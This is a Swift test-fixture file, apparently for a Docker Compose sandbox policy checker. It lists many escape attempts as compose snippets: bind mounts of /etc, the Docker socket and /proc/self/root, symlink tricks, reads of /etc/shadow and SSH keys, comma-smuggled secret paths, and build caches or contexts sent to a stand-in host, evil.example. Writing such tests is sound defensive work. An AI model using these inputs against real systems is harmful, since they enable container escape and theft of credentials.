import Compose
import PodRuntime

/// Attacks that would read or write files of the host.
extension Attack {
  static let paths: [Attack] = [
    Attack("a bind mount", ["volumes.source"], needs: .bindMounts, "volumes: [\"/etc:/x\"]"),
    Attack("a bind mount of everything", needs: .dockerSocket, "volumes: [\"/:/x:ro\"]"),
    Attack(
      "a bind mount in the long form", needs: .bindMounts, line: 5,
      "volumes:\n  - {type: bind, source: /etc, target: /x}"),
    Attack("a bind mount by a variable", needs: .bindMounts, "volumes: [\"${UNSET:-/etc}:/x\"]"),
    Attack("a bind mount with a trailing slash", needs: .bindMounts, "volumes: [\"/etc/:/x\"]"),
    Attack(
      "a bind mount by way of /proc/self/root", needs: .bindMounts,
      "volumes: [\"/proc/self/root/etc:/x\"]"),
    Attack("a bind mount of a descriptor", needs: .bindMounts, "volumes: [\"/dev/fd/0:/x\"]"),
    Attack(
      "a bind mount of the sandbox and up", needs: .bindMounts,
      "volumes: [\"{sandbox}/../outside:/x\"]"),
    Attack(
      "a bind mount beside a listed directory", needs: .bindMounts,
      "volumes: [\"{outside}/secret:/x\"]",
      permitted: [.bindMounts: .only(["{outside}/dir", "/srv"])]),
    Attack(
      "a bind mount of a name that begins like the sandbox", needs: .bindMounts,
      "volumes: [\"{sandbox}-other:/x\"]"),
    Attack(
      "a link in the sandbox", needs: nil, line: 4, says: "link", "volumes: [\"./out:/x\"]",
      links: ["out": "{outside}"]),
    Attack(
      "a link in the sandbox by its absolute path", needs: .bindMounts,
      "volumes: [\"{sandbox}/out:/x\"]", links: ["out": "{outside}"]),
    Attack(
      "a directory behind a link", needs: .bindMounts,
      "volumes: [\"{sandbox}/out/dir/new:/x\"]", links: ["out": "{outside}"]),
    Attack(
      "a link to the executor's own root", needs: .bindMounts,
      "volumes: [\"{sandbox}/out/etc:/x\"]", links: ["out": "/proc/self/root"]),
    Attack(
      "Docker's socket", needs: .dockerSocket, "volumes: [\"/var/run/docker.sock:/x\"]",
      permitted: [.bindMounts: .everything]),
    Attack(
      "the engine's own socket", needs: .dockerSocket,
      "volumes: [\"/run/trial-engine.sock:/x\"]", permitted: [.bindMounts: .everything]),
    Attack(
      "executors' control sockets", needs: .dockerSocket, says: "control sockets",
      "volumes: [\"/var/run/compose-executor/control:/x\"]", permitted: [.bindMounts: .everything]),
    Attack(
      "one control socket, in a listed directory", needs: .dockerSocket, says: "control sockets",
      "volumes: [\"/run/compose-executor/control/r.1.1:/x\"]",
      permitted: [.bindMounts: .only(["/run"])]),
    Attack(
      "a directory that holds the socket", needs: .dockerSocket, "volumes: [\"/run:/x\"]",
      permitted: [.bindMounts: .everything]),
    Attack(
      "mounts that come back to the host", ["volumes.bind.propagation"], needs: .privileged,
      "volumes: [\"./data:/x:rshared\"]"),
    Attack(
      "mounts that come back, in the long form", needs: .privileged, line: 5,
      "volumes:\n  - {type: bind, source: ./data, target: /x, bind: {propagation: shared}}"),
    Attack(
      "another label on a listed directory", ["volumes.bind.selinux"], needs: .privileged,
      "volumes: [\"{outside}/dir:/x:Z\"]", permitted: [.bindMounts: .only(["{outside}"])]),
    Attack("a mode that nobody knows", needs: nil, "volumes: [\"./data:/x:idmap\"]"),
    Attack(
      "a mount of a cluster", needs: nil, line: 5,
      "volumes:\n  - {type: cluster, source: x, target: /x}"),
    Attack(
      "a named pipe", needs: nil, line: 5,
      "volumes:\n  - {type: npipe, source: x, target: /x}"),
    Attack(
      "variables of a file of the host", ["env_file.path"], needs: .bindMounts,
      "env_file: {outside}/secret"),
    Attack(
      "variables in the long form", needs: .bindMounts, line: 5,
      "env_file:\n  - {path: {outside}/secret, required: false}"),
    Attack(
      "variables behind a link", needs: nil, says: "link", "env_file: vars",
      links: ["vars": "{outside}/secret"]),
    Attack(
      "variables behind a link's absolute path", needs: .bindMounts,
      "env_file: {sandbox}/vars", links: ["vars": "{outside}/secret"]),
    Attack(
      "variables of the executor's environment", needs: .bindMounts,
      "env_file: [{path: /proc/self/environ, format: raw}]"),
    Attack(
      "labels of a file of the host", ["label_file"], needs: .bindMounts,
      "label_file: {outside}/secret"),
    Attack(
      "labels of several files", needs: .bindMounts, line: 5,
      "label_file:\n  - {outside}/secret"),
    Attack(
      "a container before it with the host's variables", needs: .bindMounts, line: 6,
      "pre_start:\n  - image: busybox\n    env_file: {outside}/secret"),
    Attack(
      "another file's service", ["extends", "extends.file"], needs: nil, line: 3,
      says: "leaves the sandbox",
      file: "services:\n  a:\n    extends: {file: {outside}/secret, service: a}\n"),
    Attack(
      "another file", ["include", "include.path"], needs: nil, line: 1,
      says: "leaves the sandbox",
      file: "include: [{outside}/secret]\nservices: {a: {image: busybox}}\n"),
    Attack(
      "variables of another file", ["include.env_file"], needs: nil, line: 1,
      says: "leaves the sandbox",
      file:
        "include: [{path: b.yaml, env_file: {outside}/secret}]\nservices: {a: {image: busybox}}\n",
      files: ["b.yaml": "services: {b: {image: busybox}}\n"]),
    Attack(
      "another file's directory", ["include.project_directory"], needs: nil, line: 1,
      says: "leaves the sandbox",
      file:
        "include: [{path: b.yaml, project_directory: {outside}}]\nservices: {a: {image: busybox}}\n",
      files: ["b.yaml": "services: {b: {image: busybox}}\n"]),
    Attack(
      ".env as a link", needs: nil, line: nil, says: "link", "environment: [\"A=$KEY\"]",
      links: [".env": "{outside}/secret"]),
    Attack(
      ".env of an included file as a link", needs: nil, line: 1, says: "link",
      file: "include: [sub/b.yaml]\nservices: {a: {image: busybox}}\n",
      files: ["sub/b.yaml": "services: {b: {image: busybox}}\n"],
      links: ["sub/.env": "{outside}/secret"]),
    Attack(
      "a secret's file", ["secrets.file"], needs: .bindMounts, line: 5,
      "secrets:\n  - s", top: "secrets: {s: {file: /etc/shadow}}\n"),
    Attack(
      "a config's file", ["configs.file"], needs: .bindMounts, line: 5,
      "configs:\n  - c", top: "configs: {c: {file: /etc/shadow}}\n"),
    Attack(
      "a secret of a swarm", ["secrets.external", "secrets.driver", "secrets.template_driver"],
      needs: nil, line: 6, says: "secret-command", "secrets:\n  - s",
      top: "secrets: {s: {external: true}}\n"),
    Attack(
      "a config of a swarm", ["configs.external", "configs.template_driver"], needs: nil,
      line: 6, says: "secret-command", "configs:\n  - c", top: "configs: {c: {external: true}}\n"),
    Attack(
      "a volume that binds", ["volumes.driver_opts"], needs: .bindMounts, line: 6,
      "volumes: [\"vol:/x\"]",
      top: "volumes:\n  vol: {driver_opts: {type: none, o: bind, device: /etc}}\n"),
    Attack(
      "a volume that binds, with an empty driver", needs: .bindMounts, line: 6,
      "volumes: [\"vol:/x\"]",
      top: "volumes:\n  vol: {driver: \"\", driver_opts: {type: none, o: bind, device: /etc}}\n"),
    Attack(
      "a volume that binds, with a null driver", needs: nil, line: 6, says: "must be a string",
      "volumes: [\"vol:/x\"]",
      top:
        "volumes:\n  vol: {driver: null, driver_opts: {type: none, o: \"ro,rbind\", device: /etc}}\n"
    ),
    Attack(
      "a volume that binds a relative path", needs: .bindMounts, line: 6,
      "volumes: [\"vol:/x\"]",
      top: "volumes:\n  vol: {driver_opts: {o: bind, device: \"../outside\"}}\n"),
    Attack(
      "a volume that binds behind a link", needs: .dockerSocket, line: 6,
      "volumes: [\"vol:/x\"]",
      top: "volumes:\n  vol: {driver_opts: {o: bind, device: {sandbox}/esc}}\n",
      links: ["esc": "/proc/self/root"]),
    Attack(
      "a volume of directories over each other", needs: .volumeDrivers, line: 6,
      "volumes: [\"vol:/x\"]",
      top:
        "volumes:\n  vol: {driver: \"\", driver_opts: {type: overlay, device: o, o: \"lowerdir=/etc:/srv\"}}\n"
    ),
    Attack(
      "a volume of the kernel's files", needs: .volumeDrivers, line: 6, "volumes: [\"vol:/x\"]",
      top: "volumes:\n  vol: {driver_opts: {type: proc, device: proc}}\n"),
    Attack(
      "a volume of a disk", needs: .devices, line: 6, "volumes: [\"vol:/x\"]",
      top: "volumes:\n  vol: {driver_opts: {type: ext4, device: /dev/sda1}}\n"),
    Attack(
      "a volume of another host", needs: .volumeDrivers, line: 6, "volumes: [\"vol:/x\"]",
      top: "volumes:\n  vol: {driver_opts: {type: nfs, device: \":/x\", o: addr=10.0.0.1}}\n"),
    Attack(
      "a volume with an option that nobody knows", needs: .volumeDrivers, line: 6,
      "volumes: [\"vol:/x\"]", top: "volumes:\n  vol: {driver_opts: {mountpoint: /etc}}\n"),
    Attack(
      "another volume driver", ["volumes.driver"], needs: .volumeDrivers, line: 6,
      "volumes: [\"vol:/x\"]", top: "volumes:\n  vol: {driver: sshfs}\n"),
    Attack(
      "another pod's volume", ["volumes.external"], needs: .volumes, line: 6,
      "volumes: [\"vol:/x\"]", top: "volumes:\n  vol: {external: true, name: other}\n"),
    Attack(
      "a link whose slash is part of a character", needs: nil,
      "volumes: [\"./S\u{600}/dir:/x\"]", links: ["S\u{600}": "{outside}"]),
    Attack(
      "a volume whose bind is part of a character", needs: nil, line: 6, "volumes: [\"vol:/x\"]",
      top:
        "volumes:\n  vol: {driver_opts: {type: tmpfs, device: /etc, o: \"size=1\u{600},bind\"}}\n"
    ),
    Attack(
      "a tmpfs volume that binds", needs: .volumeDrivers, line: 6, "volumes: [\"vol:/x\"]",
      top: "volumes:\n  vol: {driver_opts: {device: /etc, o: \"size=1,bind\"}}\n",
      permitted: [.volumeDrivers: .only([])]),
    Attack(
      "the kernel's files mounted anew", needs: .privileged, "tmpfs: [\"/sys/.:remount,rw\"]"),
    Attack(
      "a tmpfs over another mount", needs: .privileged, line: 5,
      "volumes: [\"./data:/x\"]\ntmpfs: [\"/x/.:size=1m\"]"),
    Attack("a tmpfs with devices", needs: .privileged, "tmpfs: [\"/x:dev\"]"),
    Attack(
      "a directory that may only be read", needs: .bindMounts, "volumes: [\"{outside}/dir:/x\"]",
      permitted: [.bindMounts: .only(["{outside}:ro"])]),
  ]

  private static let build: [Permission: PodPolicy.Allowed] = [.build: .only(["local", "tags"])]

  static let builds: [Attack] = [
    Attack("a build", ["build"], needs: .build, "build: ."),
    Attack(
      "a build of the host's directory", ["build.context"], needs: .bindMounts,
      "build: /etc", permitted: build),
    Attack(
      "a build of what only looks remote", needs: .bindMounts,
      "build: \"x://../../../etc\"", permitted: build),
    Attack(
      "a build of what looks like GitHub", needs: .bindMounts,
      "build: \"github.com/../../../etc\"", permitted: build),
    Attack(
      "a build of a link that looks like git", needs: .build, "build: \"git@x\"",
      links: ["git@x": "{outside}"], permitted: build),
    Attack(
      "a build of another host's files", needs: .build,
      "build: \"https://example.com/x.git\"", permitted: build),
    Attack(
      "a Dockerfile of the host", ["build.dockerfile"], needs: .bindMounts, line: 4,
      "build: {context: ., dockerfile: {outside}/secret}", permitted: build),
    Attack(
      "a Dockerfile behind a link", needs: nil, line: 4, says: "link",
      "build: {context: ., dockerfile: Other}", links: ["Other": "{outside}/secret"],
      permitted: build),
    Attack(
      "the usual Dockerfile behind a link", needs: .bindMounts, "build: .",
      links: ["Dockerfile": "{outside}/secret"], permitted: build),
    Attack(
      "a .dockerignore behind a link", needs: .bindMounts, "build: .",
      files: ["Dockerfile": "FROM busybox\n"], links: [".dockerignore": "{outside}/secret"],
      permitted: build),
    Attack(
      "a further context", ["build.additional_contexts"], needs: .bindMounts,
      "build: {context: ., additional_contexts: {x: /etc}}", permitted: build),
    Attack(
      "a further context of an image", needs: .registries,
      "build: {context: ., additional_contexts: {x: \"docker-image://evil.example/x\"}}",
      permitted: build.merging([.registries: .only(["docker.io"])]) { $1 }),
    Attack(
      "a build's privileges", ["build.privileged"], needs: .privileged,
      "build: {context: ., privileged: true}", permitted: build),
    Attack(
      "a build's entitlements", ["build.entitlements"], needs: .privileged,
      "build: {context: ., entitlements: [network.host]}", permitted: build),
    Attack(
      "a build in the host's network", ["build.network"], needs: .hostNamespaces,
      "build: {context: ., network: host}", permitted: build),
    Attack(
      "a build in a container's network", needs: .hostNamespaces,
      "build: {context: ., network: \"container:other\"}", permitted: build),
    Attack(
      "a build's ulimits", ["build.ulimits"], needs: .ulimits,
      "build: {context: ., ulimits: {nofile: 10}}", permitted: build),
    Attack(
      "a cache in a directory of the host", ["build.cache_to"], needs: nil,
      says: "type=local", "build: {context: ., cache_to: [\"type=local,dest=/root/x\"]}",
      permitted: build.merging([.build: .everything]) { $1 }),
    Attack(
      "a cache from a directory of the host", ["build.cache_from"], needs: nil,
      "build: {context: ., cache_from: [\"type=local,src=/etc\"]}",
      permitted: build.merging([.build: .everything]) { $1 }),
    Attack(
      "a cache in quotes", needs: nil,
      "build: {context: ., cache_to: ['\"type=local\",\"dest=/root/x\"']}",
      permitted: build.merging([.build: .everything]) { $1 }),
    Attack(
      "a cache in capitals", needs: nil,
      "build: {context: ., cache_to: [\"TYPE=local,DEST=/root/x\"]}",
      permitted: build.merging([.build: .everything]) { $1 }),
    Attack(
      "a cache in a registry", needs: .build,
      "build: {context: ., cache_to: [\"type=registry,ref=x\"]}", permitted: build),
    Attack(
      "a build's secret", ["build.secrets"], needs: .bindMounts,
      "build: {context: ., secrets: [s]}", top: "secrets: {s: {file: /etc/shadow}}\n",
      permitted: build),
    Attack(
      "a build's secret with a comma", needs: nil,
      "build: {context: ., secrets: [s]}", top: "secrets: {s: {file: \"./ok,src=/etc/shadow\"}}\n",
      permitted: build),
    Attack(
      "a key with a comma", ["build.ssh"], needs: nil,
      "build: {context: ., ssh: [\"default=./k,/root/.ssh/id_rsa\"]}",
      permitted: build.merging([.build: .everything]) { $1 }),
    Attack(
      "a key of the host", needs: .bindMounts,
      "build: {context: ., ssh: [\"default=/root/.ssh/id_rsa\"]}",
      permitted: build.merging([.build: .everything]) { $1 }),
    Attack(
      "another name for what is built", ["build.tags"], needs: .build,
      "build: {context: ., tags: [nginx]}", permitted: [.build: .only(["local"])]),
    Attack(
      "a cache with two names", needs: nil,
      "build: {context: ., cache_to: [\"type=registry,ref=docker.io/x,ref=evil.example/y\"]}",
      permitted: build.merging([.build: .everything]) { $1 }),
    Attack(
      "a cache with a name in capitals", needs: nil,
      "build: {context: ., cache_to: [\"type=registry,REF=evil.example/y\"]}",
      permitted: build.merging([.build: .everything]) { $1 }),
    Attack(
      "a context's name that is more than a name", needs: nil,
      "build: {context: ., additional_contexts: {\"x=https://evil.example/c?q\": ./ok}}",
      permitted: build),
    Attack(
      "a build's secret with a hidden comma", needs: nil, "build: {context: ., secrets: [s]}",
      top: "secrets: {s: {file: \"./ok\u{600},src=/etc/shadow\"}}\n", permitted: build),
    Attack(
      "a generator of another host", needs: .build,
      "build: {context: ., sbom: \"generator=evil.example/x\"}", permitted: build),
  ]
}
